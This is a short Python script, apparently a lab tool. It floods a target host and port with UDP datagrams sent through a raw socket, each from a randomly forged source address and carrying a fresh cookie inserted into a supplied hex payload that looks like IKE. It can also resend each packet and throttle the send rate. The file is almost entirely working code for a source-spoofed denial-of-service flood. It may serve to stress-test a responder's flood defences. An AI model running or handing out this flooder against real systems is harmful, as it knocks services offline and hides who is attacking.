"""A flood of calls from forged addresses, for a machine on the way: raw sockets, random sources.

    python forging.py TO PORT A_SECOND SECONDS TIMES HEX      A_SECOND 0: what this machine gives

HEX is a call; it is sent from an address and with a cookie of its own each time (the first eight
octets after a non-ESP marker, if it has one), and ``TIMES`` times, half a second apart. What was
sent is printed at the end as JSON.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import time
from collections import deque

SOURCES = 21
"""The first octet of all addresses that are forged; nobody of the lab has such a one."""
PIECE = 64
"""Datagrams between two looks at the clock."""
AGAIN = 0.5
"""Seconds until a call comes again."""
MARKER = bytes(4)
_HEADERS = struct.Struct("!BBHHHBBH4s4sHHHH")


def flood(to: str, port: int, a_second: int, seconds: float, times: int, call: bytes) -> int:
    """How many datagrams went out."""
    marker, call = (MARKER, call[4:]) if call.startswith(MARKER) else (b"", call)
    octets = len(marker) + len(call)
    target, rest = socket.inet_aton(to), call[8:]
    waiting: deque[tuple[float, bytes]] = deque()
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        began = now = time.monotonic()
        while now < began + seconds:
            for _ in range(PIECE):
                if waiting and waiting[0][0] <= now:
                    packet = waiting.popleft()[1]
                else:
                    drawn = os.urandom(13)
                    source, ports = bytes((SOURCES,)) + drawn[:3], 1024 + drawn[3] * 250
                    packet = (
                        _HEADERS.pack(
                            *(0x45, 0, 28 + octets, 0, 0, 64, 17, 0, source, target),
                            *(ports, port, 8 + octets, 0),
                        )
                        + marker
                        + drawn[5:]
                        + rest
                    )
                    if times > 1:
                        waiting.append((now + AGAIN, packet))
                raw.sendto(packet, (to, 0))
                sent += 1
            now = time.monotonic()
            if a_second and (ahead := began + sent / a_second - now) > 0:
                time.sleep(ahead)
                now = time.monotonic()
    return sent


if __name__ == "__main__":
    host, where, rate, lasting, repeats, said = sys.argv[1:]
    datagram = bytes.fromhex(said)
    count = flood(host, int(where), int(rate), float(lasting), int(repeats), datagram)
    sys.stdout.write(json.dumps({"sent": count, "octets": len(datagram)}) + "\n")
